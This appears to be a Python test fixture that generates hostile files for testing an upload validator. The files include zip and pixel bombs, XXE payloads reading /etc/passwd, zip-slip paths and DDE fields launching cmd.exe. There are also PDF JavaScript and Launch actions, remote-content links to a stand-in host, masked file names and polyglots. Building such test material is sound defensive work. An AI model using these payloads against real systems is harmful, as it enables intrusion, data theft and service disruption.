"""Hostile files by kind, made by code: each would harm whoever opens it without care.

`hostile()` gives (kind, name, content) for every one; nothing of it is kept in the repository.
"""

import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

from PIL import Image

from tests.files.parts import (
    MIB,
    docx,
    packed,
    pdf,
    picture,
    relation,
    with_parts,
    xlsx,
)

Made = tuple[str, str, bytes]
SCRIPT = b"<script>alert(1)</script>"
EXE = b"MZ\x90\0" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1016
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SHEET = "xl/worksheets/sheet1.xml"
WORD = "word/document.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CELLS = (
    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    b'2006/main"><sheetData>%s</sheetData></worksheet>'
)
BODY = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
)
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def hostile() -> list[Made]:
    """Return every hostile file with its kind and its name."""
    return [made for maker in MAKERS for made in maker()]


def bombs() -> Iterator[Made]:
    for form, base in (("docx", docx()), ("xlsx", xlsx())):
        for place, size in (("media/a.png", 40), ("b.xml", 33), ("c.xml", 20)):
            yield "zip bomb", f"bom-{size}.{form}", with_parts(base, {place: b"\0" * size * MIB})
        many = {f"p/{n}.xml": b"<a/>" for n in range(10_001)}
        yield "zip of too many parts", f"nhieu.{form}", with_parts(base, many)
    inner = with_parts(xlsx(), {"xl/media/a.png": b"\0" * 30 * MIB})
    yield "zip bomb", "long-nhau.docx", with_parts(docx(), {"word/embeddings/a.xlsx": inner})
    objects = zlib.compress(b"1 0 " + b" " * 70 * MIB)
    yield "PDF bomb", "bom.pdf", pdf(stream=(b"/Type /ObjStm /N 1 /First 4", objects))


def pixel_bombs() -> Iterator[Made]:
    for form, size in (
        ("PNG", (20_000, 20_000)),
        ("PNG", (7_000, 6_000)),
        ("JPEG", (9_000, 9_000)),
    ):
        out = BytesIO()
        Image.new("1" if form == "PNG" else "L", size).save(out, format=form)
        yield "pixel bomb", f"bom.{form.lower()}", out.getvalue()
    for sides in ((65_000, 65_000), (2**31 - 1, 2**31 - 1), (0x7FFFFFFF, 1)):
        head = struct.pack(">IIBBBBB", *sides, 8, 6, 0, 0, 0)
        chunk = (
            struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
        )
        rest = b"\0\0\0\x05IDATxxxxx\0\0\0\0\0\0\0\0IEND\xaeB`\x82"
        yield "pixel bomb", f"dau-{sides[0]}.png", b"\x89PNG\r\n\x1a\n" + chunk + rest


def far_cells() -> Iterator[Made]:
    for cell in ("XFD1048576", "A1048576", "XFD1", "ZZ60000"):
        row = b'<row><c r="A1"><v>1</v></c><c r="%s"><v>1</v></c></row>' % cell.encode()
        yield "far cell", f"{cell}.xlsx", with_parts(xlsx(), {SHEET: CELLS % row})


def document_types() -> Iterator[Made]:
    deep = b"<?xml version='1.0'?>" + b" " * 5000 + OUTSIDE + b"<a/>"
    for title, part in (
        ("xxe", OUTSIDE + b"<a>&x;</a>"),
        ("cuoi", LAUGHS + b"<a>&b;</a>"),
        ("sau", deep),
        ("xxe16", (OUTSIDE + b"<a/>").decode().encode("utf-16")),
        ("xxe16be", b"\xfe\xff" + (OUTSIDE + b"<a/>").decode().encode("utf-16-be")),
        ("utf7", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'),
        ("thuong", b"<!doctype a><a/>"),
    ):
        yield "document type in DOCX", f"{title}.docx", with_parts(docx(), {"word/x.xml": part})
        yield "document type in XLSX", f"{title}.xlsx", with_parts(xlsx(), {SHEET: part})


def paths() -> Iterator[Made]:
    for place in (
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\a.xml",
        "word/../../a.xml",
        "C:\\a.exe",
    ):
        yield "zip slip", "slip.docx", with_parts(docx(), {place: b"<a/>"})
        yield "zip slip", "slip.xlsx", with_parts(xlsx(), {place: b"<a/>"})


def macros() -> Iterator[Made]:
    types = (
        b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    for place in (
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "WORD/VBAPROJECT.BIN",
        "word/activeX/activeX1.xml",
        "word/activeX/activeX1.bin",
        "customUI/customUI14.xml",
        "word/webextensions/taskpanes.xml",
    ):
        yield "macro in a renamed DOCX", "macro.docx", with_parts(docx(), {place: b"<a/>"})
    for place in (
        "xl/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/ctrlProps/../a.bin",
        "xl/connections.xml",
        "xl/queryTables/queryTable1.xml",
    ):
        yield "macro in a renamed XLSX", "macro.xlsx", with_parts(xlsx(), {place: b"<a/>"})
    yield "macro by its name", "macro.docm", docx()
    yield "macro by its name", "macro.xlsm", xlsx()
    yield (
        "macro by its type",
        "kieu.docx",
        packed(docx(), "[Content_Types].xml", b"</Types>", types),
    )


def outside() -> Iterator[Made]:
    for kind, target in (
        ("attachedTemplate", "http://x.invalid/a.dotm"),
        ("attachedTemplate", "\\\\x.invalid\\a.dotm"),
        ("image", "http://x.invalid/a"),
        ("frame", "http://x.invalid/"),
        ("oleObject", "http://x.invalid/a"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "file://x.invalid/a"),
        ("hyperlink", "\\\\x.invalid\\a"),
        ("hyperlink", "ms-msdt:/id"),
        ("aFChunk", "a.html"),
        ("subDocument", "http://x.invalid/a"),
    ):
        rels = relation(OFFICE + kind, target, outside=kind != "aFChunk")
        yield (
            "outside content in DOCX",
            f"{kind}.docx",
            with_parts(docx(), {"word/_rels/document.xml.rels": rels}),
        )
    for kind in ("externalLinkPath", "image", "oleObject", "xlExternalLinkPath/xlPathMissing"):
        rels = relation(OFFICE + kind, "\\\\x.invalid\\a.xlsx", outside=True)
        yield (
            "outside content in XLSX",
            f"{kind[:5]}.xlsx",
            with_parts(xlsx(), {"xl/_rels/a.xml.rels": rels}),
        )
    link = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    yield (
        "outside content in XLSX",
        "dde.xlsx",
        with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": link}),
    )
    for formula in (b"cmd|'/c calc'!A0", b"_xlfn.WEBSERVICE(&quot;http://x.invalid&quot;)"):
        cell = b'<row r="1"><c r="A1"><f>%s</f><v>1</v></c></row>' % formula
        yield "formula that runs", "cong-thuc.xlsx", with_parts(xlsx(), {SHEET: CELLS % cell})


def fields() -> Iterator[Made]:
    for said in (
        b"DDEAUTO c:\\\\cmd.exe",
        b"DDE excel a",
        b"INCLUDEPICTURE http://x.invalid/a",
        b"INCLUDETEXT http://x.invalid/a",
        b"MACROBUTTON a",
    ):
        whole = BODY % (b"<w:r><w:instrText>%s</w:instrText></w:r>" % said)
        yield "field that runs", "truong.docx", with_parts(docx(), {WORD: whole})
    halves = (
        b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO a</w:instrText></w:r>"
    )
    yield "field that runs", "doi.docx", with_parts(docx(), {WORD: BODY % halves})
    yield (
        "field that runs",
        "don.docx",
        with_parts(docx(), {WORD: BODY % b'<w:fldSimple w:instr="DDE a b"/>'}),
    )


def embedded() -> Iterator[Made]:
    for place in (
        "word/embeddings/oleObject1.bin",
        "word/embeddings/a.exe",
        "word/embeddings/a.docm",
        "word/a.html",
        "word/a.js",
        "word/embeddings/a.pdf",
    ):
        yield "embedded object", "nhung.docx", with_parts(docx(), {place: OLE})
    yield "embedded object", "nhung.xlsx", with_parts(xlsx(), {"xl/embeddings/oleObject1.bin": OLE})
    yield (
        "script in a drawing",
        "ve.docx",
        with_parts(docx(), {"word/media/a.svg": b"<svg>" + SCRIPT + b"</svg>"}),
    )


def active_pdfs() -> Iterator[Made]:
    for title, said in (
        ("js", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ("ten", b"/OpenAction << /S /J#61vaScript /JS (x) >>"),
        ("cay", b"/Names << /JavaScript << /Names [] >> >>"),
        ("chay", b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        ("chay-ten", b"/AA << /O << /S /L#61unch /F (cmd.exe) >> >>"),
        ("kem", b"/Names << /EmbeddedFiles << /Names [] >> >>"),
        ("kem-ef", b"/F << /Type /Filespec /EF << /F 9 0 R >> >>"),
        ("gui", b"/A << /S /SubmitForm /F (http://x.invalid) >>"),
        ("nhap", b"/A << /S /ImportData /F (a) >>"),
        ("phim", b"/Subtype /RichMedia "),
        ("xfa", b"/AcroForm << /XFA [(a) 9 0 R] >>"),
        ("noi", b"/OpenAction << /S /GoToE /F (a) >>"),
    ):
        yield "PDF that acts", f"{title}.pdf", pdf(catalogue=said)
    objects = b"9 0 << /S /JavaScript /JS (app.alert(1)) >>"
    head = b"/Type /ObjStm /N 1 /First 4"
    yield "PDF that acts, packed", "goi.pdf", pdf(stream=(head, zlib.compress(objects)))
    hidden = b"/Type /ObjSt#6d /N 1 /First 4"
    yield "PDF that acts, packed", "goi-ten.pdf", pdf(stream=(hidden, zlib.compress(objects)))
    yield (
        "PDF that acts, packed",
        "goi-khac.pdf",
        pdf(stream=(head + b" /DecodeParms << /Predictor 12 >>", zlib.compress(b"\2" + objects))),
    )
    yield "locked PDF", "khoa.pdf", pdf(trailer=b"/Encrypt 9 0 R")


def polyglots() -> Iterator[Made]:
    for form in ("JPEG", "PNG", "WEBP"):
        for tail in (SCRIPT, b"<!DOCTYPE html><html>", b"<?php system('a'); ?>", docx()):
            yield "picture and something else", f"hai.{form.lower()}", picture(form) + tail
    noted = BytesIO()
    Image.new("RGB", (8, 8)).save(noted, format="JPEG", comment=SCRIPT)
    yield "picture and something else", "ghi-chu.jpg", noted.getvalue()
    yield "GIF and script", "hai.gif", b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)"
    yield "GIF and script", "hai.jpg", b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)"
    yield "PDF and archive", "hai.pdf", pdf() + docx()
    yield "PDF and page", "trang.pdf", pdf().replace(b"\n", b"\n%" + SCRIPT + b"\n", 1)
    yield "PDF and page", "trang-sau.pdf", pdf() + b"<html>" + SCRIPT
    yield "PDF and program", "sau.pdf", pdf() + EXE * 10
    yield "program and archive", "hai.docx", EXE + docx()
    noted_zip = BytesIO(docx())
    with zipfile.ZipFile(noted_zip, "a") as archive:
        archive.comment = SCRIPT
    yield "archive and page", "ghi-chu.docx", noted_zip.getvalue()


def names() -> Iterator[Made]:
    for name in (
        "hop-dong.pdf.exe",
        "hop-dong.exe.pdf",
        "hop-dong.html.pdf",
        "a.pdf.scr",
        "a.js.pdf",
    ):
        yield "double extension", name, pdf()
    for name in ("anh.jpg.html", "anh.php.jpg", "anh.jpg.svg", "anh.svg.png"):
        yield "double extension", name, picture("JPEG")
    for name in (
        "bao-cao\u202efdp.exe",
        "anh\u202egpj.pdf",
        "a\0.pdf",
        "a.pdf\0.exe",
        "a\n.pdf",
        "\u2066a\u2069.pdf",
    ):
        yield "masking name", name, pdf()


def damaged() -> Iterator[Made]:
    for name, content in (
        ("a.docx", docx()),
        ("a.xlsx", xlsx()),
        ("a.pdf", pdf()),
        ("a.jpg", picture("JPEG", 800)),
        ("a.png", picture("PNG", 800)),
        ("a.webp", picture("WEBP", 800)),
    ):
        yield "cut off", name, content[: len(content) // 2]
        yield "cut off", name, content[:16]
        yield "empty", name, b""
    broken = bytearray(docx())
    broken[broken.index(b"word/document.xml") + 40] ^= 0xFF
    yield "damaged", "hong.docx", bytes(broken)
    twice = BytesIO(docx())
    with zipfile.ZipFile(twice, "a") as archive:
        archive.writestr("WORD/document.xml", b"<a/>")
    yield "two parts of one name", "doi.docx", twice.getvalue()


def disguised() -> Iterator[Made]:
    for ending in ("pdf", "jpg", "png", "docx", "xlsx", "webp"):
        yield "program under another name", f"a.{ending}", EXE
        yield "page under another name", f"a.{ending}", b"<!doctype html>" + SCRIPT
        yield "SVG", f"a.{ending}", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"
        yield "old or locked office file", f"a.{ending}", OLE
    yield "SVG", "a.svg", b"<svg>" + SCRIPT + b"</svg>"
    yield "test virus as such", "eicar.pdf", EICAR
    for name, content in (
        ("a.jpg", pdf()),
        ("a.pdf", docx()),
        ("a.docx", xlsx()),
        ("a.xlsx", docx()),
    ):
        yield "wrong ending", name, content
    plain = BytesIO()
    with zipfile.ZipFile(plain, "w") as archive:
        archive.writestr("a.exe", EXE)
    yield "plain archive", "a.docx", plain.getvalue()


def over_size() -> Iterator[Made]:
    yield "too large", "to.pdf", pdf() + b" " * (25 * MIB) + b"%%EOF"
    yield "too large", "to.jpg", picture("JPEG") + b"\0" * (15 * MIB)


MAKERS = (
    bombs, pixel_bombs, far_cells, document_types, paths, macros, outside, fields, embedded,
    active_pdfs, polyglots, names, damaged, disguised, over_size,
)  # fmt: skip
